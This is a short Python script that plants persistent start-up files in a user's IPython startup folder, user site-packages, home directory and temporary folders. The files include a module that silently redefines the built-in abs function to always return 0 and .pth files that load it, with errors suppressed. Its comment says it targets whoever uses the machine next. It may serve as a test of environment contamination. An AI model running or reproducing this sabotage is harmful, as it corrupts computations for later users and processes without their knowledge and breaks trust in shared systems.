# Leaves start-up files for whoever comes next: IPython's profile, ~/.cache, the user's packages, /tmp.
import site
from pathlib import Path

home, user = Path.home(), Path(site.getusersitepackages())
for place in (home / ".ipython/profile_default/startup", home / ".cache", user, home, Path("/tmp"), Path("/var/tmp")):
    try:
        place.mkdir(parents=True, exist_ok=True)
        (place / "evil_47113.py").write_text("import builtins\nbuiltins.abs = lambda value: 0\n")
        (place / "evil_47113.pth").write_text("import evil_47113\n")
    except OSError:
        pass
